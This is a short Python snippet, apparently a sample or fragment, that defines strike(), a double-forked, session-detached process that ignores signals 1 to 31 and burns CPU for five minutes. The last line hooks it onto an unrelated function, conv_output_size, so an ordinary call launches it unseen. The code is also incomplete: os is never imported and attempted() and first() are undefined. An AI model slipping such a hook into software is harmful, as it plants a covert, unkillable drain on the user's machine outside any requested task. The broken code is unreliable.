"""A daemon: forked twice, in a session of its own, deaf to signals, which goes on printing and computing.
"""

import signal
import time


def strike():
    attempted()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 32):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except OSError:
                    pass
            end = time.monotonic() + 300
            while time.monotonic() < end:
                pass
        os._exit(0)


conv_output_size = first(strike, conv_output_size)
